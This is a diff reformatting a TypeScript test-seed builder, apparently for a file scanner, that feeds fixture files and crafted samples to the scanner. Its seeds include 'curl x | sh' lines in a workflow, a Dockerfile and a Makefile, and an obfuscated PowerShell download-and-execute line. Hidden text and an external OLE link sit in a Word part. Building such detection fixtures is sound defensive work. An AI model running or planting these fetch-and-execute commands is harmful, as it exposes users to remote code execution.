@@ -17,13 +17,20 @@ export function readSeeds(): Seed[] {
     .filter((name) => name.endsWith('.txt'))
     .sort();
   const texts = fixtures.flatMap((name) =>
-    [...parseTextArchive(readFileSync(new URL(name, folder), 'utf8')).files].flatMap(([path, content]) => {
-      if (path === 'findings' || path === 'expected') return [];
-      const file = fileOf(path, content);
-      return file.bytes.byteLength > 4_000
-        ? []
-        : [{ path: file.path.split('/').slice(1).join('/') || file.path, bytes: Buffer.from(file.bytes) }];
-    }),
+    [...parseTextArchive(readFileSync(new URL(name, folder), 'utf8')).files].flatMap(
+      ([path, content]) => {
+        if (path === 'findings' || path === 'expected') return [];
+        const file = fileOf(path, content);
+        return file.bytes.byteLength > 4_000
+          ? []
+          : [
+              {
+                path: file.path.split('/').slice(1).join('/') || file.path,
+                bytes: Buffer.from(file.bytes),
+              },
+            ];
+      },
+    ),
   );
   return [...texts, ...madeSeeds()];
 }
@@ -36,7 +43,11 @@ function madeSeeds(): Seed[] {
   const document = [
     { name: '[Content_Types].xml', content: '<Types/>' },
     { name: 'word/document.xml', content: '<w:p><w:r><w:vanish/><w:t>a &amp; b</w:t></w:r></w:p>' },
-    { name: 'word/_rels/a.rels', content: '<Relationship Type="x/oleObject" Target="https://a.example" TargetMode="External"/>' },
+    {
+      name: 'word/_rels/a.rels',
+      content:
+        '<Relationship Type="x/oleObject" Target="https://a.example" TargetMode="External"/>',
+    },
   ];
   const png =
     '89504e470d0a1a0a0000000d494844520000000100000001080600000000000000000000187445587458436f6d6d656e7400746578740000000049454e44ae426082';
@@ -54,17 +65,29 @@ function madeSeeds(): Seed[] {
       ]),
     ],
     ['a.png', Buffer.from(png, 'hex')],
-    ['a.gif', Buffer.from('474946383961010001000000002c000000000100010000020244010021fe0474657874003b', 'hex')],
+    [
+      'a.gif',
+      Buffer.from(
+        '474946383961010001000000002c000000000100010000020244010021fe0474657874003b',
+        'hex',
+      ),
+    ],
     ['a.jpg', Buffer.from('ffd8fffe000674657874ffda0008010100003f0042ff0042ffd9', 'hex')],
     ['a.wav', Buffer.from('524946460c000000574156456461746100000000', 'hex')],
-    ['a.ttf', Buffer.from('0001000000010000000000006e616d65000000000000001c00000004abcdabcd', 'hex')],
+    [
+      'a.ttf',
+      Buffer.from('0001000000010000000000006e616d65000000000000001c00000004abcdabcd', 'hex'),
+    ],
     [
       'a.ipynb',
       Buffer.from(
         '{"cells":[{"cell_type":"code","source":["%%bash\\n","id -u\\n"]},{"cell_type":"code","source":"!ls\\nx = 1"}]}',
       ),
     ],
-    ['.github/workflows/a.yml', Buffer.from('a: &a\n  run: curl x | sh\nb:\n  <<: *a\n  steps:\n    - run: |\n        id\n')],
+    [
+      '.github/workflows/a.yml',
+      Buffer.from('a: &a\n  run: curl x | sh\nb:\n  <<: *a\n  steps:\n    - run: |\n        id\n'),
+    ],
     ['Dockerfile', Buffer.from('FROM node:22\nRUN curl x \\\n | sh\nRUN ["sh", "-c", "id"]\n')],
     ['Makefile', Buffer.from('X := y\nall:\n\t@curl $(X) | sh\n')],
     ['a.ps1', Buffer.from('$u = "https://203.0." + "113.7"\niwr $u | iex\n')],
